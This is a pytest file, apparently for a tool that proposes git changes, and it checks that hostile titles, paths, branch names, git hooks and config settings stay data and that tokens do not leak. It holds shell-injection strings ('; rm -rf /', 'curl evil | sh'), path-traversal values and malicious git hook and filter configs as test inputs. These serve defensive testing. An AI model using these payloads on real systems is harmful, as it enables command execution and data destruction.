"""What comes from elsewhere stays data: names, titles, files, addresses, settings; a token goes to its own forge."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from firstmate.command_tiers import CommandTier
from firstmate.problems import shape_problems
from firstmate.services.actions import ACTIONS
from firstmate.services.actions.values import ActionError, Call
from tests.services.actions.git_kit import DEPLOYMENT, HOME, VARIABLE, Yard, judged, yard
from tests.services.actions.kit import refusal
from tests.support.git_server import TOKEN, serving

HOSTILE = [
    "; rm -rf /",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "--upload-pack=touch /tmp/owned",
    "-x",
    "' || true '",
    '" && curl evil | sh "',
    "a\\",
    "x" * 200,
    "🙂 ünïcode",
    "{{ inputs.x }}",
    "!!python/object/apply:os.system [x]",
]
FILE = "apps/web/deployment.yaml"


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Yard]:
    with yard(tmp_path) as made:
        yield made


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_titles_and_values_stay_data(home: Yard, value: str) -> None:
    """In the commit, in the pull request, in the manifest and in the commands that a person reads."""
    call, plan = home.planned("git.propose-change", home.change(title=value, set={"image": value}, text=value))
    output = home.again("git.propose-change", call)

    assert home.forge.pulls["ops/home", 1]["title"] == value
    assert home.bare.message(output["branch"]).startswith(value.rstrip())
    assert f"--title={value}" in shlex.split(plan.commands[1])
    assert {judged(line).tier for line in plan.commands} == {CommandTier.SAFE}
    changed = home.bare.text(FILE, output["branch"]).splitlines()
    assert [a for a, b in zip(changed, DEPLOYMENT.splitlines(), strict=True) if a != b] == [
        line for line in changed if "image:" in line
    ]


@pytest.mark.parametrize("title", ["", "two\nlines", "bell\x07", "x" * 201, "end\n"])
def test_titles_that_are_no_line_are_refused_by_their_schema(home: Yard, title: str) -> None:
    """A second line could be a trailer that says who did what."""
    assert shape_problems(home.change(title=title), ACTIONS["git.propose-change"].takes)


PATHS = [
    "../../etc/passwd",
    "/etc/passwd",
    "apps/../../x",
    "apps//x",
    "./x",
    ".git/hooks/post-commit",
    ".GIT/config",
    "apps/.git/config",
    "git~1/config",
    ".git./config",
    ".git /config",
    ".git::$INDEX_ALLOCATION/config",
    ".gitea/workflows/run.yaml",
    ".github/workflows/run.yaml",
    ".gitattributes",
    ".gitmodules",
    "a\nb",
    "a\x00b",
    "",
    "link/x",
    "link",
    "outside/passwd",
]


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leads_out_of_the_manifests(tmp_path: Path, path: str) -> None:
    """Neither up, nor into git's own, nor through a link, nor to what a forge runs."""
    with yard(tmp_path, {**HOME, "link": "->README.md", "outside": "->/etc"}) as home:
        why = refusal(lambda: home.planned("git.propose-change", home.change(set={"replicas": 3}, files={path: "x"})))

        assert "is not a path inside" in why or "is hidden" in why or "leads through a link" in why
        assert home.bare.branches() == ["main"]


def test_a_link_in_the_repository_is_not_read(tmp_path: Path) -> None:
    """A manifest that is a link to a file of this machine says nothing of it."""
    outside = tmp_path / "outside.yaml"
    outside.write_text(DEPLOYMENT)
    with yard(tmp_path, {"README.md": "x\n", "apps/web/deployment.yaml": f"->{outside}"}) as home:
        assert "there is none" in refusal(lambda: home.planned("git.propose-change", home.change()))


@pytest.mark.parametrize(
    "base", ["-x", "--all", "a..b", "x.lock", "a b", "+main", ":main", "main:x", "a\nb", "refs/../x"]
)
def test_branches_that_git_could_take_for_something_else_are_refused(home: Yard, base: str) -> None:
    """Before git sees them."""
    assert "is not the name of a branch" in refusal(lambda: home.planned("git.propose-change", home.change(base=base)))
    assert home.ran == []


def test_settings_and_hooks_of_a_person_do_not_run(home: Yard, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nor what the repository says about filters."""
    owned = home.folder / "owned"
    hooks = home.folder / "hooks"
    hooks.mkdir()
    for name in ("pre-commit", "post-checkout", "pre-push", "reference-transaction", "post-commit"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {owned}\n")
        (hooks / name).chmod(0o755)
    run = f'"touch {owned}"'
    (home.folder / ".gitconfig").write_text(
        f'[core]\n\thooksPath = {hooks}\n\tfsmonitor = {run}\n[filter "x"]\n\tsmudge = {run}\n\tclean = {run}\n'
        f"[diff]\n\texternal = {run}\n[credential]\n\thelper = {run}\n[commit]\n\tgpgSign = true\n"
    )
    home.bare.commit(
        {".gitattributes": "*.yaml filter=x diff=x merge=x ident working-tree-encoding=UTF-16\n"}, "Filters"
    )
    home.propose()

    assert not owned.exists()


def test_the_token_is_in_no_command_no_file_and_no_error(home: Yard) -> None:
    """Only its name is: what runs finds it in the environment."""
    home.propose()
    home.forge.server.refuses = "git-receive-pack"
    call, plan = home.planned("git.propose-change", home.change(), "run/step/2")
    why = refusal(lambda: home.again("git.propose-change", call))

    kept = [path.read_bytes() for path in (home.folder / "repositories").rglob("*") if path.is_file()]
    assert TOKEN.encode() not in b"".join(kept)
    assert VARIABLE.encode() in b"".join(kept)
    assert TOKEN not in "\n".join([*home.ran, *plan.commands, plan.shows, why, str(call.facts)])


def test_a_token_goes_to_its_own_forge_only(home: Yard) -> None:
    """Another server that asks for a password gets none."""
    with serving(home.folder / "elsewhere") as elsewhere:
        theirs = elsewhere.bare("ops/home", HOME)
        call = Call({**home.change(repo=f"{elsewhere.url}/ops/home"), "preflight": False}, "run/step/1")

        with pytest.raises(ActionError, match="no forge is known for"):
            ACTIONS["git.propose-change"].plan(home.tools, call)
        clone = next((home.folder / "repositories").iterdir())
        assert "credential" not in (clone / "repo.git/config").read_text()
        assert theirs.branches() == ["main"]


def test_a_forge_that_takes_no_token_is_named(home: Yard) -> None:
    """With the variable to look at, not with what is in it."""
    call, _ = home.planned("git.propose-change", home.change())
    home.forge.server.may_write = lambda authorization: False  # type: ignore[method-assign]

    why = refusal(lambda: home.again("git.propose-change", call))
    assert f"does not let us: look at ${VARIABLE}" in why
    assert TOKEN not in why


def test_locks_of_a_killed_git_are_nobodys(home: Yard) -> None:
    """A clone is never stuck for good."""
    home.do("git.open", {"repo": home.repo})
    clone = next((home.folder / "repositories").iterdir())
    (clone / "repo.git/refs/remotes/origin").mkdir(parents=True, exist_ok=True)
    (clone / "repo.git/refs/remotes/origin/main.lock").touch()
    (clone / "repo.git/packed-refs.lock").touch()
    home.bare.commit({"README.md": "newer\n"}, "Newer")

    assert home.do("git.open", {"repo": home.repo})["commit"] == home.bare.tip()
